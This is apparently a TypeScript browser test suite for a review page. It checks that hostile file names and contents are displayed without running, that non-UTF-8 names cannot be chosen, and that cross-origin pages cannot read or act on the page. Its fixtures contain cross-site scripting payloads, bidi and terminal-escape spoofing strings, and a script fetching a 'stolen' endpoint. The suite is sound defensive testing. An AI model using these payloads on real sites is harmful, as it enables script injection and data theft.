/** What a command may put into names and files does nothing in the page. */

import { readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";

import { project } from "../../support/transactions.js";
import { served } from "../review-server.js";
import {
  articleOf,
  boxOf,
  commit,
  describeInBrowser,
  open,
  rowOf,
  said,
  useBrowser,
  visit,
} from "./browser.js";

const kScript = "parent.document.title='owned'; alert(1); fetch('http://127.0.0.1:9/stolen')";
/** By name: what is in it. Each of them would do something where it was obeyed. */
const kFiles: readonly (readonly [name: string, text: string])[] = [
  [
    "<img src=x onerror=alert(1)>.html",
    `<script>${kScript}</script><img src=http://127.0.0.1:9/x>`,
  ],
  ['"><script>alert(2)<\uff0fscript>.txt', `</textarea></div><script>${kScript}</script>`],
  [
    "drawing.svg",
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${kScript}"><script>${kScript}</script><image href="http://127.0.0.1:9/x"/></svg>`,
  ],
  ["bidi\u202egnp.exe.txt", "if (admin\u2066 // \u2069) { grant(); }\u200b\u00ad\n"],
  ["escape\u001b[31m\u0007.txt", "\u001b]0;owned\u0007\u001b[2J\u009b31m\u0000x"],
  ["line\nbreak\ttab.txt", "a\r\rb\u2028c\u2029d\u0085e"],
  ["__proto__", "constructor"],
  ["toString.txt", "#{alert(3)} {{7*7}}"],
  [" ", "a name that can't be seen"],
  [
    "javascript:alert(4).md",
    "[x](javascript:alert(5)) <iframe srcdoc='<script>alert(6)</script>'>",
  ],
];

describeInBrowser("hostile names and contents", () => {
  useBrowser();

  test("are shown as they are, obeyed by nothing, and can be committed", async () => {
    const at = await served(project());
    for (const [name, text] of kFiles) await at.transaction.files.write(name, text);
    await at.transaction.exec({
      argv: ["sh", "-c", `: '<script>${"alert(7)"}</script>' > /dev/null`],
    });
    const { page, asked, complaints, dialogs } = await visit(at);
    for (const [name] of kFiles) {
      const row = rowOf(page, name);
      const shown = (await row.locator("bdi").textContent()) ?? "";
      expect(shown).not.toMatch(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
      await open(page, name);
      const article = articleOf(page, name);
      await article.locator("h2").waitFor();
      await expect.poll(() => article.getByText("Loading…").count()).toBe(0);
      const seen = await article.innerText();
      expect(seen, name).not.toMatch(/(?![\n\r\t])[\p{Cc}\p{Cf}]/u);
    }
    await page.locator(".runs summary").last().click();
    expect(dialogs).toEqual([]);
    expect(await page.title()).toBe("Review of a transaction");
    expect(asked.filter((address) => !address.startsWith(at.review.url))).toEqual([]);
    expect(complaints).toEqual([]);
    expect(
      await page.locator("article script, article iframe, .row script, .row img").count(),
    ).toBe(0);
    await page.keyboard.press("a");
    await commit(page);
    await said(page).toContain(`Committed ${kFiles.length} changes.`);
    for (const [name, text] of kFiles) {
      expect(readFileSync(join(at.workspace, name), "utf8"), name).toBe(text);
    }
  });

  test("a name that is no UTF-8 is shown, and can't be chosen", async () => {
    const at = await served(project());
    await at.transaction.files.write(Buffer.from("odd\xff.txt", "latin1"), "x");
    await at.transaction.files.write("plain.txt", "x");
    const { page } = await visit(at);
    await page.getByText("no UTF-8").waitFor();
    expect(await boxOf(page, "odd\ufffd.txt").isDisabled()).toBe(true);
    expect(await boxOf(page, "plain.txt").isEnabled()).toBe(true);
  });

  test("another page can't read, frame, or use it", async () => {
    const at = await served(project());
    await at.transaction.files.write("a.txt", "mine\n");
    const { page } = await visit(at);
    const { createServer } = await import("node:http");
    const other = createServer((_, response) => {
      response.setHeader("content-type", "text/html");
      response.end(`<iframe src="${at.review.url}"></iframe><img src="${at.review.url}icon.svg">`);
    });
    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
    const { port } = other.address() as { port: number };
    try {
      await page.goto(`http://127.0.0.1:${port}/`);
      const tried = await page.evaluate(async (url) => {
        const outcome = (promise: Promise<Response>) =>
          promise.then(
            (answer) => answer.status,
            () => "failed",
          );
        const post = { method: "POST", body: "{}" };
        return [
          await outcome(fetch(`${url}api/changes`)),
          await outcome(fetch(`${url}api/changes`, { mode: "no-cors" })).then(
            (got) => got === 0 || got,
          ),
          await outcome(fetch(`${url}api/discard`, post)),
          await outcome(fetch(`${url}api/discard`, { ...post, mode: "no-cors" })).then(
            (got) => got === 0 || got,
          ),
        ];
      }, at.review.url);
      expect(tried[0]).toBe("failed");
      expect(tried[2]).toBe("failed");
      expect(page.frames().some((frame) => frame.url() === at.review.url)).toBe(false);
      expect(await at.transaction.changes()).toHaveLength(1); // nothing was discarded
    } finally {
      await new Promise((resolve) => other.close(resolve));
    }
  });
});
